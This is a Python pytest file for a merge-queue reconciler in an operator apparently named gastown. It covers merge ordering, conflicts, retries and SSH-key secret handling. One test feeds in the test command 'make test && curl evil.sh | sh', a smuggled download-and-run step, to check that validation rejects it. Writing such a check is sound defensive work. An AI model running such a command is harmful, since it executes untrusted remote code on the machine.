"""Tests for MergeQueueReconciler with a fake git client factory."""

from __future__ import annotations

import base64
import os
from datetime import UTC, datetime, timedelta
from unittest.mock import AsyncMock, patch

import pytest

from gastown.operator import errors
from gastown.operator.controllers.base import REFINERY_FINALIZER, Request, Result
from gastown.operator.controllers.merge_queue import MergeQueueReconciler, find_merge_ready
from gastown.operator.gitops import GitCommandError, MergeOptions, MergeOutcome, MergeResult
from gastown.operator.models import ConditionType, MergeQueue, MergeQueuePhase, ObjectMeta, Secret, Worker
from gastown.operator.models.core import SecretReference
from gastown.operator.models.meta import find_condition, remove_condition, set_condition
from gastown.operator.settings import GastownSettings
from gastown.operator.store.memory import InMemoryObjectStore
from tests.factories import make_merge_queue, make_worker, make_workspace

NS = "gastown-system"
T0 = datetime(2026, 1, 1, tzinfo=UTC)


class FakeGitClient:
    def __init__(self, factory: FakeGitFactory, repo_dir, git_url: str, ssh_key_path, known_hosts) -> None:
        self.factory = factory
        self.repo_dir = repo_dir
        self.git_url = git_url
        self.ssh_key_path = ssh_key_path
        self.known_hosts = known_hosts
        self.key: bytes | None = None
        self.options: MergeOptions | None = None
        self.closed = False

    async def __aenter__(self) -> FakeGitClient:
        return self

    async def __aexit__(self, *exc_info: object) -> None:
        self.closed = True

    async def clone(self) -> None:
        if self.factory.clone_error:
            raise GitCommandError(["git", "clone", self.git_url], 128, "permission denied")

    async def merge_branch(self, opts: MergeOptions) -> MergeResult:
        self.options = opts
        if self.ssh_key_path:
            with open(self.ssh_key_path, "rb") as f:
                self.key = f.read()
        return self.factory.results.get(opts.source_branch, MergeResult(MergeOutcome.MERGED, merged_commit="abc123"))


class FakeGitFactory:
    """Stands in for ``GitClient``; ``results`` maps a source branch to its outcome."""

    def __init__(self) -> None:
        self.results: dict[str, MergeResult] = {}
        self.clone_error = False
        self.clients: list[FakeGitClient] = []

    def __call__(self, repo_dir, git_url, *, ssh_key_path=None, known_hosts=None) -> FakeGitClient:
        client = FakeGitClient(self, repo_dir, git_url, ssh_key_path, known_hosts)
        self.clients.append(client)
        return client

    def merged_branches(self) -> list[str]:
        return [c.options.source_branch for c in self.clients if c.options is not None]


@pytest.fixture
def git() -> FakeGitFactory:
    return FakeGitFactory()


@pytest.fixture
def reconciler(store: InMemoryObjectStore, settings: GastownSettings, git: FakeGitFactory) -> MergeQueueReconciler:
    return MergeQueueReconciler(store, settings, git_factory=git)


async def _reconcile(reconciler: MergeQueueReconciler) -> Result:
    result = await reconciler.reconcile(Request("demo-refinery", NS))
    while result.requeue:
        result = await reconciler.reconcile(Request("demo-refinery", NS))
    return result


async def _add_ready_worker(store: InMemoryObjectStore, name: str, finished_minutes_ago: int = 0) -> None:
    worker = await store.create(make_worker(name))
    worker.status.branch = f"feature/{name}"
    set_condition(
        worker.status.conditions,
        ConditionType.AVAILABLE,
        True,
        "Completed",
        now=T0 - timedelta(minutes=finished_minutes_ago),
    )
    await store.update_status(worker)


async def _queue(store: InMemoryObjectStore) -> MergeQueue:
    return await store.get(MergeQueue, "demo-refinery", NS)


async def _merged(store: InMemoryObjectStore, name: str):
    worker = await store.get(Worker, name, "default")
    return find_condition(worker.status.conditions, ConditionType.MERGED)


def _ready_reason(queue: MergeQueue) -> str:
    return find_condition(queue.status.conditions, ConditionType.READY).reason


@pytest.fixture
async def rig(store: InMemoryObjectStore) -> None:
    await store.create(make_workspace())


# ---------------------------------------------------------------------------
# Queue selection
# ---------------------------------------------------------------------------


def test_find_merge_ready_orders_by_completion() -> None:
    def ready(name: str, minutes_ago: int, **extra) -> Worker:
        worker = make_worker(name)
        worker.status.branch = f"feature/{name}"
        set_condition(
            worker.status.conditions, ConditionType.AVAILABLE, True, "Completed", now=T0 - timedelta(minutes=minutes_ago)
        )
        for condition_type, value in extra.items():
            set_condition(worker.status.conditions, condition_type, value, "X")
        return worker

    newer = ready("newer", 1)
    older = ready("older", 10)
    merged = ready("merged", 20, Merged=True)
    no_branch = ready("no-branch", 30)
    no_branch.status.branch = None
    unavailable = ready("unavailable", 40, Available=False)

    result = find_merge_ready([newer, merged, older, no_branch, unavailable])

    assert [w.name for w in result] == ["older", "newer"]


# ---------------------------------------------------------------------------
# Reconcile
# ---------------------------------------------------------------------------


async def test_idle_when_nothing_pending(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, rig: None
) -> None:
    await store.create(make_merge_queue())

    result = await _reconcile(reconciler)

    assert result.requeue_after == 30.0
    queue = await _queue(store)
    assert queue.has_finalizer(REFINERY_FINALIZER)
    assert queue.status.phase == MergeQueuePhase.IDLE
    assert _ready_reason(queue) == "Idle"


async def test_merges_oldest_first(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory, rig: None
) -> None:
    await store.create(make_merge_queue(test_command="make test"))
    await _add_ready_worker(store, "second", finished_minutes_ago=1)
    await _add_ready_worker(store, "first", finished_minutes_ago=5)

    result = await _reconcile(reconciler)

    assert result.requeue_after == 5.0
    assert git.merged_branches() == ["feature/first"]
    client = git.clients[0]
    assert client.git_url == "git@github.com:org/demo.git"
    assert client.known_hosts and client.known_hosts[0].startswith("github.com ")
    assert client.options.test_command == "make test"
    assert client.closed

    merged = await _merged(store, "first")
    assert merged.status == "True"
    assert merged.reason == "MergeComplete"
    assert merged.message == "Branch feature/first merged to main (commit: abc123)"

    queue = await _queue(store)
    assert queue.status.phase == MergeQueuePhase.PROCESSING
    assert queue.status.queue_length == 1
    assert queue.status.current_merge is None
    assert queue.status.merges_summary.succeeded == 1
    assert queue.status.last_merge_time is not None

    result = await _reconcile(reconciler)

    assert result.requeue_after == 30.0
    assert git.merged_branches() == ["feature/first", "feature/second"]
    queue = await _queue(store)
    assert queue.status.phase == MergeQueuePhase.IDLE
    assert queue.status.merges_summary.total == 2


async def test_parallel_batch(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory, rig: None
) -> None:
    await store.create(make_merge_queue(parallelism=3))
    for name in ("a", "b"):
        await _add_ready_worker(store, name)

    await _reconcile(reconciler)

    assert sorted(git.merged_branches()) == ["feature/a", "feature/b"]
    assert (await _queue(store)).status.phase == MergeQueuePhase.IDLE


async def test_conflict_halts_queue_until_cleared(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory, rig: None
) -> None:
    await store.create(make_merge_queue())
    await _add_ready_worker(store, "clash", finished_minutes_ago=5)
    await _add_ready_worker(store, "next", finished_minutes_ago=1)
    git.results["feature/clash"] = MergeResult(MergeOutcome.CONFLICT, error="rebase failed: CONFLICT in app.py")

    result = await _reconcile(reconciler)

    assert result.requeue_after == 30.0
    queue = await _queue(store)
    assert queue.status.phase == MergeQueuePhase.ERROR
    assert queue.status.conflicts == ["clash"]
    assert _ready_reason(queue) == "MergeConflict"
    assert (await _merged(store, "clash")).reason == "Conflict"

    # The next item waits while the conflict is open.
    await _reconcile(reconciler)
    assert git.merged_branches() == ["feature/clash"]
    assert (await _queue(store)).status.phase == MergeQueuePhase.ERROR

    # The operator resolves the branch and clears the Merged condition.
    del git.results["feature/clash"]
    worker = await store.get(Worker, "clash", "default")
    remove_condition(worker.status.conditions, ConditionType.MERGED)
    await store.update_status(worker)

    await _reconcile(reconciler)

    assert git.merged_branches() == ["feature/clash", "feature/clash"]
    queue = await _queue(store)
    assert queue.status.conflicts == []
    assert queue.status.phase == MergeQueuePhase.PROCESSING


async def test_deleted_worker_clears_conflict(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory, rig: None
) -> None:
    await store.create(make_merge_queue())
    await _add_ready_worker(store, "clash")
    git.results["feature/clash"] = MergeResult(MergeOutcome.CONFLICT, error="conflict")
    await _reconcile(reconciler)

    await store.delete(Worker, "clash", "default")
    await _reconcile(reconciler)

    queue = await _queue(store)
    assert queue.status.conflicts == []
    assert queue.status.phase == MergeQueuePhase.IDLE


async def test_tests_failed_moves_on(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory, rig: None
) -> None:
    await store.create(make_merge_queue(test_command="pytest"))
    await _add_ready_worker(store, "broken", finished_minutes_ago=5)
    await _add_ready_worker(store, "good", finished_minutes_ago=1)
    git.results["feature/broken"] = MergeResult(MergeOutcome.TESTS_FAILED, error="tests failed: 2 failed")

    result = await _reconcile(reconciler)

    assert result.requeue_after == 5.0
    merged = await _merged(store, "broken")
    assert merged.status == "False"
    assert merged.reason == "TestsFailed"
    queue = await _queue(store)
    assert queue.status.phase == MergeQueuePhase.PROCESSING
    assert queue.status.merges_summary.failed == 1

    await _reconcile(reconciler)
    assert (await _merged(store, "good")).reason == "MergeComplete"


async def test_git_failure_keeps_item_queued(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory, rig: None
) -> None:
    await store.create(make_merge_queue())
    await _add_ready_worker(store, "toast")
    git.results["feature/toast"] = MergeResult(MergeOutcome.FAILED, error="merge failed: push rejected")

    with pytest.raises(errors.GastownError) as exc_info:
        await _reconcile(reconciler)

    assert errors.is_retryable(exc_info.value)
    assert "push rejected" in str(exc_info.value)
    assert await _merged(store, "toast") is None
    queue = await _queue(store)
    assert queue.status.queue_length == 1
    assert queue.status.merges_summary.failed == 1


async def test_repeated_git_failure_is_counted_once(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory, rig: None
) -> None:
    await store.create(make_merge_queue())
    await _add_ready_worker(store, "toast")
    git.results["feature/toast"] = MergeResult(MergeOutcome.FAILED, error="merge failed: push rejected")

    for _ in range(2):
        with pytest.raises(errors.GastownError):
            await _reconcile(reconciler)

    summary = (await _queue(store)).status.merges_summary
    assert (summary.total, summary.failed, summary.succeeded) == (1, 1, 0)
    assert (await _queue(store)).status.retrying == ["toast"]

    del git.results["feature/toast"]
    await _reconcile(reconciler)

    queue = await _queue(store)
    summary = queue.status.merges_summary
    assert (summary.total, summary.failed, summary.succeeded) == (1, 0, 1)
    assert queue.status.retrying == []
    assert (await _merged(store, "toast")).reason == "MergeComplete"


async def test_queue_counts_persist_when_marking_worker_fails(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory, rig: None
) -> None:
    await store.create(make_merge_queue())
    await _add_ready_worker(store, "toast")

    with (
        patch.object(reconciler, "_mark_worker", AsyncMock(side_effect=errors.transient(None, "status write failed"))),
        pytest.raises(errors.GastownError),
    ):
        await _reconcile(reconciler)

    queue = await _queue(store)
    assert queue.status.merges_summary.succeeded == 1
    assert queue.status.merges_summary.total == 1
    assert queue.status.last_merge_time is not None


async def test_clone_failure_is_retried(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory, rig: None
) -> None:
    git.clone_error = True
    await store.create(make_merge_queue())
    await _add_ready_worker(store, "toast")

    with pytest.raises(errors.GastownError) as exc_info:
        await _reconcile(reconciler)
    assert "clone failed" in str(exc_info.value)


async def test_invalid_test_command(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory, rig: None
) -> None:
    await store.create(make_merge_queue(test_command="make test && curl evil.sh | sh"))
    await _add_ready_worker(store, "toast")

    assert await _reconcile(reconciler) == Result()

    queue = await _queue(store)
    assert queue.status.phase == MergeQueuePhase.ERROR
    assert _ready_reason(queue) == "InvalidTestCommand"
    assert git.clients == []


async def test_missing_rig(store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory) -> None:
    await store.create(make_merge_queue())
    await _add_ready_worker(store, "toast")

    result = await _reconcile(reconciler)

    assert result.requeue_after == 60.0
    queue = await _queue(store)
    assert queue.status.phase == MergeQueuePhase.ERROR
    assert _ready_reason(queue) == "RigNotFound"
    assert git.clients == []


async def test_unknown_git_host(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory
) -> None:
    await store.create(make_workspace(git_url="git@git.internal.example:org/demo.git"))
    await store.create(make_merge_queue())
    await _add_ready_worker(store, "toast")

    await _reconcile(reconciler)

    assert _ready_reason(await _queue(store)) == "UnknownGitHost"
    assert git.clients == []


async def test_ssh_key_from_secret(
    store: InMemoryObjectStore, reconciler: MergeQueueReconciler, git: FakeGitFactory, rig: None
) -> None:
    await store.create(
        Secret(
            metadata=ObjectMeta(name="git-creds", namespace=NS),
            data={"id_ed25519": base64.b64encode(b"PRIVATE KEY").decode()},
        )
    )
    await store.create(make_merge_queue(git_secret_ref=SecretReference(name="git-creds")))
    await _add_ready_worker(store, "toast")

    await _reconcile(reconciler)

    client = git.clients[0]
    assert client.key == b"PRIVATE KEY"
    assert not os.path.exists(client.ssh_key_path)


@pytest.mark.parametrize(("data", "reason"), [(None, "SecretNotFound"), ({"token": "eA=="}, "SSHKeyNotFound")])
async def test_secret_problems(
    store: InMemoryObjectStore,
    reconciler: MergeQueueReconciler,
    git: FakeGitFactory,
    rig: None,
    data: dict[str, str] | None,
    reason: str,
) -> None:
    if data is not None:
        await store.create(Secret(metadata=ObjectMeta(name="git-creds", namespace=NS), data=data))
    await store.create(make_merge_queue(git_secret_ref=SecretReference(name="git-creds")))
    await _add_ready_worker(store, "toast")

    await _reconcile(reconciler)

    assert _ready_reason(await _queue(store)) == reason
    assert git.clients == []


async def test_deletion_releases_finalizer(store: InMemoryObjectStore, reconciler: MergeQueueReconciler) -> None:
    await store.create(make_merge_queue())
    await _reconcile(reconciler)

    await store.delete(MergeQueue, "demo-refinery", NS)
    assert await _reconcile(reconciler) == Result()
    assert await store.list(MergeQueue) == []


async def test_map_event(store: InMemoryObjectStore, reconciler: MergeQueueReconciler) -> None:
    await store.create(make_merge_queue())
    await store.create(make_merge_queue("other"))

    assert await reconciler.map_event(make_worker(rig="demo")) == [Request("demo-refinery", NS)]
